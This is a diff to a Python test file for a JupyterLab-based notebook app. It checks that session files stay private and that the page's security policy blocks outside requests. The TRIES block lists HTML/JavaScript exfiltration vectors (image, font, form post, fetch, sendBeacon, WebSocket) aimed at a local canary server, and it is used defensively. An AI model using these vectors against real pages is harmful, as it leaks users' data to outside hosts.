@@ -7,10 +7,14 @@ import os
 import re
 import subprocess
 import sys
+import threading
+import time
 import urllib.request
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import TYPE_CHECKING
 
+import nbformat
 import pytest
 from support.connections import Connections
 from support.jupyter_lab import free_port, private_environment, root_flag, stop, wait_for_server
@@ -55,13 +59,17 @@ def address(tmp_path: Path, connections: Connections) -> Iterator[str]:
         stop(process)
 
 
+def open_start(page, address) -> None:
+    page.goto(address)
+    page.wait_for_selector(".jp-Notebook")
+    page.get_by_text("Python 3 (ipykernel) | Idle").wait_for()
+
+
 def test_neither_page_nor_server_nor_kernel_opens_an_outside_connection(
     address, connections, page, traffic, tmp_path
 ):
-    page.goto(address)
-    page.wait_for_selector(".jp-Notebook")
+    open_start(page, address)
     idle = page.get_by_text("Python 3 (ipykernel) | Idle")
-    idle.wait_for()
     page.get_by_role("menuitem", name="Run", exact=True).click()
     page.get_by_role("menuitem", name="Run All Cells", exact=True).click()
     page.wait_for_function(
@@ -103,3 +111,121 @@ def test_plain_jupyterlab_in_this_environment_asks_for_no_news_either(tmp_path):
         stop(process)
     assert defaults["fetchNews"]["default"] == "false"
     assert defaults["checkForUpdates"]["default"] is False
+
+
+SESSION = """
+import glidekit as gk
+from glidekit.log import open_log
+from glidekit.planning.plan_folder import write_plan
+log = open_log(simulated=True)
+for record in gk.simulate(sessions=2, seed=1):
+    log.save(record)
+log.back_up()
+log.export("export")
+log.export("export.json")
+write_plan(gk.plan("gentle-start"), log.path.parent)
+open("notes.txt", "w").write("mine")
+"""
+
+
+@pytest.mark.skipif(os.name == "nt", reason="Windows keeps rights in another way; a profile is private there")
+def test_no_file_of_a_session_can_be_read_by_another_user(address, page, tmp_path):
+    open_start(page, address)
+    cells = [nbformat.v4.new_code_cell(SESSION)]
+    kernel = {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"}
+    notebook = nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": kernel})
+    nbformat.write(notebook, tmp_path / "my-workbook" / "session.ipynb")
+    page.goto(address.replace("00_start_here.ipynb", "session.ipynb"))
+    page.get_by_role("tab", name="session.ipynb", selected=True).wait_for()
+    page.get_by_text("Python 3 (ipykernel) | Idle").wait_for()
+    page.locator(".jp-Notebook:visible .jp-CodeCell .cm-content").click()
+    page.keyboard.press("Shift+Enter")
+    page.locator(".jp-InputPrompt:visible", has_text="[1]:").wait_for()
+    for _ in range(2):  # the first save makes the checkpoint, the second writes over the notebook
+        page.keyboard.press("Control+s")
+        page.wait_for_function("document.querySelector('.jp-mod-current .jp-icon-dirty') === null")
+    made = [*(tmp_path / "my-workbook").rglob("*"), *(tmp_path / "jupyter" / "backups").rglob("*")]
+    names = {path.name for path in made}
+    assert {"my-log.sqlite", "notes.txt", "export", ".ipynb_checkpoints", "session-checkpoint.ipynb"} <= names
+    assert [path for path in made if path.suffix == ".json" and "plan" in path.name]
+    assert [path for path in made if "backups" in path.parts], "no copy was made"
+    open_to_others = {str(path): oct(path.stat().st_mode) for path in made if path.stat().st_mode & 0o077}
+    assert open_to_others == {}
+
+
+# --- the page's own policy
+
+# What a stranger's cell might do with what it reads on the page.
+TRIES = """
+<img src="CANARY/image">
+<link rel="stylesheet" href="CANARY/style">
+<style>@font-face {font-family: away; src: url("CANARY/font")} p {font-family: away}</style><p>words</p>
+<script src="CANARY/script"></script>
+<iframe name="gk-away"></iframe>
+<form action="CANARY/form" method="post" target="gk-away"><input name="pain" value="7"></form>
+<script>
+  fetch("CANARY/fetch", {mode: "no-cors"}).catch(() => {});
+  navigator.sendBeacon("CANARY/beacon", "pain=7");
+  new WebSocket("CANARY/socket".replace("http", "ws"));
+  document.querySelector("form[target=gk-away]").submit();
+</script>
+"""
+ASKED = {"image", "style", "font", "script", "form", "fetch", "beacon", "socket"}
+
+
+@pytest.fixture
+def canary() -> Iterator[tuple[str, set[str]]]:
+    """A server of another origin, and what it was asked for."""
+    asked: set[str] = set()
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.add(self.path.lstrip("/"))
+            self.send_response(204)
+            self.end_headers()
+
+        do_POST = do_GET  # noqa: N815 - the name that http.server calls
+
+        def log_message(self, *_: object) -> None:
+            """Say nothing."""
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}", asked
+    server.shutdown()
+    server.server_close()
+
+
+def test_a_cell_can_send_nothing_to_another_server(open_notebook, canary):
+    address, asked = canary
+    html = TRIES.replace("CANARY", address)
+    notebook = open_notebook([f"from IPython.display import HTML\nHTML({html!r})"])
+    notebook.page.evaluate(
+        """() => {
+          window.blocked = [];
+          document.addEventListener('securitypolicyviolation', one => window.blocked.push(one.blockedURI));
+        }"""
+    )
+    notebook.run_all()
+    blocked = lambda: {uri.rpartition("/")[2] for uri in notebook.page.evaluate("window.blocked")}  # noqa: E731 - a poll
+    notebook.wait_until(lambda: blocked() >= ASKED, what="every try was blocked")
+    assert asked == set()
+
+
+def test_without_the_policy_the_other_server_would_be_asked(page, canary):
+    """The control: the same HTML in a page of no server's."""
+    address, asked = canary
+    page.set_content(TRIES.replace("CANARY", address))
+    page.wait_for_function("true")
+    deadline = time.monotonic() + 20
+    while asked < ASKED and time.monotonic() < deadline:
+        page.wait_for_timeout(50)  # a poll
+    assert asked == ASKED
+
+
+def test_a_base_element_does_not_turn_the_pages_own_requests_elsewhere(open_notebook, canary):
+    address, _ = canary
+    notebook = open_notebook([f"from IPython.display import HTML\nHTML('<base href=\"{address}/\">')"])
+    notebook.run_all()
+    notebook.wait_for("document.querySelector('.jp-OutputArea-output base') !== null")
+    assert notebook.page.evaluate("document.baseURI").startswith(notebook.lab.url)
